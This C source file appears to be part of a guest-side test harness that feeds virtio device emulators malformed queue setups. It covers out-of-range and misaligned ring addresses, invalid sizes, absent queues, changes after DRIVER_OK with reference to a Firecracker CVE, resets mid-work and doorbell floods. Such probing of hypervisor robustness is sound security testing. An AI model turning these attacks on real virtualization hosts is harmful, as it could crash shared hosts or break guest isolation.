/*
 * Attacks on how a queue is set up: ring addresses outside RAM, in device memory, across the end of RAM, misaligned;
 * sizes that are no size; and everything changed again after DRIVER_OK, when a device must hold on to what it was
 * given.
 */
#include "attacks.h"
#include "runtime/cpu.h"
#include "runtime/machine.h"
#include "runtime/memory.h"
#include "runtime/start-info.h"

#define BEYOND_RAM 0x0000e00000000000ul
#define LAST_PAGE 0xfffffffffffff000ul
#define LAST_SAFE_INTEGER_PAGE 0x0020000000000000ul /* 2^53, where a JavaScript number stops being exact */
enum { RING_BYTES = 8192 };

/* Tells the device of a queue without any check of ours, switches it on and rings. */
static void raw_queue(struct victim *v, u16 size, u64 descriptors, u64 available, u64 used) {
  virtio_select_queue(&v->device, v->queue_index);
  virtio_write(&v->device, VIRTIO_QUEUE_SIZE, size);
  virtio_write_address(&v->device, VIRTIO_QUEUE_DESCRIPTORS, descriptors);
  virtio_write_address(&v->device, VIRTIO_QUEUE_DRIVER, available);
  virtio_write_address(&v->device, VIRTIO_QUEUE_DEVICE, used);
  v->queue.notify_address = virtio_notify_address(&v->device);
  virtio_write(&v->device, VIRTIO_QUEUE_ENABLE, 1);
  virtio_driver_ok(&v->device);
  ring_doorbell(v);
}

static u64 some_ring(void) { return (u64)allocate(RING_BYTES, 4096); }
static void rings_at(struct victim *v, u64 a) { raw_queue(v, VICTIM_QUEUE_SIZE, a, a + 0x1000, a + 0x2000); }

static u64 end_of_ram(void) {
  u64 end = 0;
  for (u32 i = 0; i < memory_region_count(); i++) {
    const struct memory_region *r = memory_region(i);
    if (r->type == MEMORY_RAM && r->start + r->size > end) end = r->start + r->size;
  }
  return end;
}

static void beyond_ram(struct victim *v) { rings_at(v, BEYOND_RAM); }
static void at_the_top(struct victim *v) { raw_queue(v, VICTIM_QUEUE_SIZE, LAST_PAGE, LAST_PAGE, LAST_PAGE); }
static void at_2_53(struct victim *v) { rings_at(v, LAST_SAFE_INTEGER_PAGE); }
static void in_the_hole(struct victim *v) { rings_at(v, DEVICE_HOLE_START + 0x8000000); }
static void in_the_lapic(struct victim *v) { raw_queue(v, VICTIM_QUEUE_SIZE, LAPIC_BASE, LAPIC_BASE, LAPIC_BASE); }
static void in_own_registers(struct victim *v) {
  u64 registers = virtio_register_address(&v->device, VIRTIO_DEVICE_FEATURE_SELECT) & ~0xffful;
  raw_queue(v, VICTIM_QUEUE_SIZE, registers, registers, registers);
}
static void at_zero(struct victim *v) { raw_queue(v, VICTIM_QUEUE_SIZE, 0, 0, some_ring()); }
static void descriptors_across_the_end(struct victim *v) {
  raw_queue(v, VICTIM_QUEUE_SIZE, end_of_ram() - 16, some_ring(), some_ring());
}
static void available_across_the_end(struct victim *v) {
  raw_queue(v, VICTIM_QUEUE_SIZE, some_ring(), end_of_ram() - 4, some_ring());
}
static void used_across_the_end(struct victim *v) {
  raw_queue(v, VICTIM_QUEUE_SIZE, some_ring(), some_ring(), end_of_ram() - 4);
}
static void used_beyond_ram(struct victim *v) { raw_queue(v, VICTIM_QUEUE_SIZE, some_ring(), some_ring(), BEYOND_RAM); }
static void misaligned_descriptors(struct victim *v) {
  raw_queue(v, VICTIM_QUEUE_SIZE, some_ring() + 1, some_ring(), some_ring());
}
static void misaligned_available(struct victim *v) {
  raw_queue(v, VICTIM_QUEUE_SIZE, some_ring(), some_ring() + 1, some_ring());
}
static void misaligned_used(struct victim *v) {
  raw_queue(v, VICTIM_QUEUE_SIZE, some_ring(), some_ring(), some_ring() + 2);
}
static void size_zero(struct victim *v) { raw_queue(v, 0, some_ring(), some_ring(), some_ring()); }
static void size_no_power_of_2(struct victim *v) { raw_queue(v, 7, some_ring(), some_ring(), some_ring()); }
static void size_too_large(struct victim *v) { raw_queue(v, 0x8000, some_ring(), some_ring(), some_ring()); }
static void size_all_ones(struct victim *v) { raw_queue(v, 0xffff, some_ring(), some_ring(), some_ring()); }

static void all_rings_the_same(struct victim *v) {
  u64 ring = some_ring();
  ((u16 *)ring)[1] = 3; /* an available index, and the middle of a descriptor's address */
  raw_queue(v, VICTIM_QUEUE_SIZE, ring, ring, ring);
}

static void driver_ok_without_queues(struct victim *v) {
  virtio_driver_ok(&v->device);
  virtio_select_queue(&v->device, v->queue_index);
  virtio_ring(&v->device, virtio_notify_address(&v->device), v->queue_index);
}

static void enable_absent_queue(struct victim *v) {
  victim_ready(v);
  u16 count = v->device.registers != 0 ? VIRTIO_MAX_QUEUES : mmio_read16(v->device.common + COMMON_QUEUE_COUNT);
  const u16 absent[] = {count, 0x7fff, 0xffff};
  for (u32 i = 0; i < ARRAY_LENGTH(absent); i++) {
    virtio_select_queue(&v->device, absent[i]);
    virtio_write(&v->device, VIRTIO_QUEUE_SIZE, 16);
    virtio_write_address(&v->device, VIRTIO_QUEUE_DESCRIPTORS, BEYOND_RAM);
    virtio_write(&v->device, VIRTIO_QUEUE_ENABLE, 1);
  }
}

static const u32 absent_queues[] = {VIRTIO_MAX_QUEUES, 0xffff, 0x10000, 0xffffffff};
static void ring_absent_queues(struct victim *v) {
  victim_ready(v);
  if (v->device.registers != 0) {
    for (u32 n = 0; n < 4; n++) mmio_write32(v->queue.notify_address, absent_queues[n]);
    return;
  }
  for (u32 at = 0; at + 2 <= v->device.notify_bytes && at < 0x1000; at += 64)
    mmio_write16(v->device.notify + at, 0xffff);
  mmio_write32(v->device.notify, 0xffffffff);
  mmio_write8(v->device.notify, 0xff);
  mmio_write16(v->device.notify + v->device.notify_bytes - 2, 0x1234);
}

/* After DRIVER_OK (Firecracker's CVE-2026-5747): each change is followed by honest work on the rings as they were. */
static void work_after(struct victim *v) {
  put_valid_chain(v);
  offer_head(v, 0);
  ring_doorbell(v);
}
static void size_after_driver_ok(struct victim *v) {
  victim_ready(v);
  virtio_select_queue(&v->device, v->queue_index);
  virtio_write(&v->device, VIRTIO_QUEUE_SIZE, 0x8000);
  v->queue.available->index = 0x100;
  ring_doorbell(v);
}
static void size_raised_then_work(struct victim *v) {
  victim_ready(v);
  virtio_select_queue(&v->device, v->queue_index);
  virtio_write(&v->device, VIRTIO_QUEUE_SIZE, 0xffff);
  work_after(v);
}
static void addresses_after_driver_ok(struct victim *v) {
  victim_ready(v);
  virtio_select_queue(&v->device, v->queue_index);
  virtio_write_address(&v->device, VIRTIO_QUEUE_DESCRIPTORS, BEYOND_RAM);
  virtio_write_address(&v->device, VIRTIO_QUEUE_DRIVER, LAST_PAGE);
  virtio_write_address(&v->device, VIRTIO_QUEUE_DEVICE, DEVICE_HOLE_START);
  work_after(v);
}
static void enabled_again(struct victim *v) {
  victim_ready(v);
  virtio_select_queue(&v->device, v->queue_index);
  virtio_write_address(&v->device, VIRTIO_QUEUE_DEVICE, BEYOND_RAM);
  virtio_write(&v->device, VIRTIO_QUEUE_ENABLE, 0);
  virtio_write(&v->device, VIRTIO_QUEUE_ENABLE, 1);
  work_after(v);
}
static void features_after_driver_ok(struct victim *v) {
  victim_ready(v);
  for (u32 word = 0; word < 4; word++) {
    virtio_write(&v->device, VIRTIO_DRIVER_FEATURE_SELECT, word);
    virtio_write(&v->device, VIRTIO_DRIVER_FEATURE, 0xffffffff);
  }
  work_after(v);
}
static void without_bus_master(struct victim *v) {
  victim_ready(v);
  if (v->device.registers != 0) return;
  u16 command = pci_read16(v->device.function, PCI_COMMAND);
  pci_write(v->device.function, PCI_COMMAND, 2, command & (u16)~COMMAND_MASTER);
  work_after(v);
  victim_outcome(v, 2);
  pci_write(v->device.function, PCI_COMMAND, 2, command);
}
static void reset_with_work_in_flight(struct victim *v) {
  victim_ready(v);
  for (int i = 0; i < 20; i++) {
    work_after(v);
    virtio_reset(&v->device);
    victim_begin(v, 0);
    victim_ready(v);
  }
  work_after(v);
}
static void doorbell_flood(struct victim *v) {
  victim_ready(v);
  for (int i = 0; i < 2000; i++) ring_doorbell(v);
  work_after(v);
}

/* clang-format off */
#define ATTACK(function) {#function, 0, function}
/* clang-format on */
const struct attack setup_attacks[] = {
    ATTACK(beyond_ram),
    ATTACK(at_the_top),
    ATTACK(at_2_53),
    ATTACK(in_the_hole),
    ATTACK(in_the_lapic),
    ATTACK(in_own_registers),
    ATTACK(at_zero),
    ATTACK(descriptors_across_the_end),
    ATTACK(available_across_the_end),
    ATTACK(used_across_the_end),
    ATTACK(used_beyond_ram),
    ATTACK(misaligned_descriptors),
    ATTACK(misaligned_available),
    ATTACK(misaligned_used),
    ATTACK(size_zero),
    ATTACK(size_no_power_of_2),
    ATTACK(size_too_large),
    ATTACK(size_all_ones),
    ATTACK(all_rings_the_same),
    ATTACK(driver_ok_without_queues),
    ATTACK(enable_absent_queue),
    ATTACK(ring_absent_queues),
    ATTACK(size_after_driver_ok),
    ATTACK(size_raised_then_work),
    ATTACK(addresses_after_driver_ok),
    ATTACK(enabled_again),
    ATTACK(features_after_driver_ok),
    ATTACK(without_bus_master),
    ATTACK(reset_with_work_in_flight),
    ATTACK(doorbell_flood),
};
const u32 setup_attack_count = ARRAY_LENGTH(setup_attacks);
